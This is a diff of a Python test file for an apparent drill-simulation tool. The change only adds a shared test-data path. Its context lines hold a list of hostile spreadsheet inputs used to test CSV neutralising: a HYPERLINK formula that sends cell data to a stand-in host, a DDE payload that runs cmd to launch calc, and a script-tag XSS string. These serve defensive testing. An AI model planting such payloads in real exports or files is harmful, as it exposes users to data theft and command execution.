@@ -23,7 +23,7 @@ from drillsim.exercise.msel import inject_rows, to_csv
 from drillsim.experiment.rundir import SavedRun, write_run
 from drillsim.files import csv_rows, csv_text, frame_csv, neutralise, read_frame, restore
 from drillsim.scenario import Scenario, load
-from tests.helpers import CASES, ROOT
+from tests.helpers import CASES, DATA, ROOT
 
 HOSTILE = ['=HYPERLINK("http://evil.invalid/?"&A1,"click")', "-1+2", "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
            "\tTab first", "\rCR first", "two lines\r\nthe second, with a comma and \"quotes\"", "a lone\rCR inside",
@@ -162,7 +162,7 @@ def test_the_after_action_markdown_shows_scenario_html_as_text(tmp_path: Path) -
     path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
     scenario = load(path)
     log = tmp_path / "log.csv"
-    log.write_text((ROOT / "tests" / "data" / "exam-day-drill-log.csv").read_text(encoding="utf-8")
+    log.write_text((DATA / "exam-day-drill-log.csv").read_text(encoding="utf-8")
                    + '0d 09:31,leak,,occurred,,"<script>alert(3)</script>"\n', encoding="utf-8")
     incidents = drill_incidents(scenario, scripted=True)
     md = render_markdown(draft(evaluate(scenario, incidents, read(log, scenario, incidents),
